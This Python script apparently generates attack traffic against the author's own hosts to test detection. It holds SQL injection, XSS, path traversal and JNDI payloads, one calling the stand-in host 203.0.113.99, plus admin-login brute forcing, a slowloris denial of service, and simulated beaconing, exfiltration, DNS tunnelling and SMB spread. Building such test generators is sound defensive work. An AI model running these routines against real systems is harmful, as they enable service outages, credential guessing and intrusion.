"""Attacks on our own hosts for which Debian has no tool: `intruder.py ATTACK SOURCE SECONDS TARGET...`."""

from __future__ import annotations

import contextlib
import http.client
import random
import socket
import ssl
import subprocess
import sys
import time
from dataclasses import dataclass
from urllib.parse import quote

INJECTIONS = [
    "1' OR '1'='1",
    "1' UNION SELECT NULL,NULL,NULL-- -",
    "1 AND SLEEP(2)",
    "1'; WAITFOR DELAY '0:0:2'--",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "${jndi:ldap://203.0.113.99/a}",
    "1' AND (SELECT COUNT(*) FROM information_schema.tables)>0-- -",
]


@dataclass(frozen=True)
class Job:
    """Where an attack comes from, how long it may take, and what it is aimed at."""

    source: str
    seconds: float
    targets: list[str]
    rng: random.Random

    def until(self) -> float:
        """The moment (monotonic clock) when it must be over."""
        return time.monotonic() + self.seconds


def connect(job: Job, target: str, port: int, timeout: float = 5) -> socket.socket:
    """A TCP connection from the attack's own address."""
    return socket.create_connection((target, port), timeout=timeout, source_address=(job.source, 0))


def encrypted(job: Job, target: str) -> http.client.HTTPSConnection:
    """An HTTPS connection that believes any certificate."""
    context = ssl._create_unverified_context()  # noqa: S323, SLF001 - our own certificate, made for the hour
    return http.client.HTTPSConnection(target, timeout=20, source_address=(job.source, 0), context=context)


def beacon(job: Job) -> None:
    """Call the control host over TLS every two and a half seconds, with little jitter."""
    until = job.until()
    while time.monotonic() < until:
        with (
            contextlib.suppress(OSError, http.client.HTTPException),
            contextlib.closing(encrypted(job, job.targets[0])) as link,
        ):
            link.request("POST", "/poll", bytes(96))
            link.getresponse().read()
        time.sleep(2.5 + job.rng.uniform(-0.1, 0.1))


def heartbeat(job: Job) -> None:
    """Call the control host on a plain TCP port every two seconds."""
    until = job.until()
    while time.monotonic() < until:
        with contextlib.suppress(OSError), connect(job, job.targets[0], 8443) as sock:
            sock.sendall((64).to_bytes(4, "big") + bytes(64))
            sock.recv(1024)
        time.sleep(2 + job.rng.uniform(-0.05, 0.05))


def logins(job: Job) -> None:
    """Try passwords on the web login, a connection each."""
    until = job.until()
    while time.monotonic() < until:
        with contextlib.suppress(OSError, http.client.HTTPException):
            link = http.client.HTTPConnection(job.targets[0], timeout=5, source_address=(job.source, 0))
            link.request("POST", "/login", f"user=admin&password=guess{job.rng.randrange(10**6)}".encode())
            link.getresponse().read()
            link.close()
        time.sleep(0.12)


def slowly(job: Job) -> None:
    """Hold 140 connections open by sending a header line every few seconds (the way of slowloris)."""
    until = job.until()
    held = []
    for _ in range(140):
        with contextlib.suppress(OSError):
            sock = connect(job, job.targets[0], 80)
            sock.sendall(b"GET /p/1 HTTP/1.1\r\nHost: www.example.org\r\n")
            held.append(sock)
        time.sleep(0.03)
    while time.monotonic() < until:
        for sock in held:
            with contextlib.suppress(OSError):
                sock.sendall(f"X-a: {job.rng.randrange(5000)}\r\n".encode())
            time.sleep(4 / len(held))
    for sock in held:
        sock.close()


def inject(job: Job) -> None:
    """Send injections, traversals and scripts in a parameter, by curl."""
    until = job.until()
    while time.monotonic() < until:
        payload = quote(job.rng.choice(INJECTIONS) + " " * job.rng.randrange(4))
        command = ["curl", "-s", "-o", "/dev/null", "--interface", job.source, "-A", "sqlmap/1.7"]
        if job.rng.random() < 0.3:
            command += ["--data", f"id={payload}&name={payload * job.rng.randint(1, 6)}"]
        url = f"http://{job.targets[0]}/search?q={payload}&page={job.rng.randrange(9)}"
        subprocess.run([*command, url], check=False, timeout=20)
        time.sleep(0.08)


def upload(job: Job) -> None:
    """Send stolen data out over TLS: 200 kB to 1.2 MB at a time."""
    until = job.until()
    while time.monotonic() < until:
        with (
            contextlib.suppress(OSError, http.client.HTTPException),
            contextlib.closing(encrypted(job, job.targets[0])) as link,
        ):
            link.request("PUT", "/drop", bytes(job.rng.randint(200_000, 1_200_000)))
            link.getresponse().read()
        time.sleep(job.rng.uniform(0.3, 0.9))


def tunnel(job: Job) -> None:
    """Send stolen data out in datagrams to port 53, some tens a flow."""
    until = job.until()
    while time.monotonic() < until:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(1)
            for _ in range(job.rng.randint(15, 40)):
                sock.sendto(bytes(job.rng.randint(150, 230)), (job.targets[0], 53))
                with contextlib.suppress(TimeoutError):
                    sock.recv(512)
        time.sleep(0.2)


def sweep(job: Job) -> None:
    """Go from host to host over administrative ports; where the share answers, talk and push a file."""
    until = job.until()
    for target in job.targets:
        for port in (22, 135, 139, 445, 3389, 5985):
            if time.monotonic() > until:
                return
            with contextlib.suppress(OSError), connect(job, target, port, 1) as sock:
                if port == 445:
                    spread(job, sock)
            time.sleep(0.05)


def spread(job: Job, sock: socket.socket) -> None:
    """Negotiate with a share and push 20 to 120 kB to it."""
    for size in (120, 180, 90, job.rng.randint(20_000, 120_000)):
        sock.sendall(size.to_bytes(4, "big") + bytes(size))
        sock.recv(4096)


ATTACKS = {
    attack.__name__: attack for attack in (beacon, heartbeat, logins, slowly, inject, upload, tunnel, sweep)
}


if __name__ == "__main__":
    name, origin, duration, *aims = sys.argv[1:]
    ATTACKS[name](Job(origin, float(duration), aims, random.Random(name + origin)))
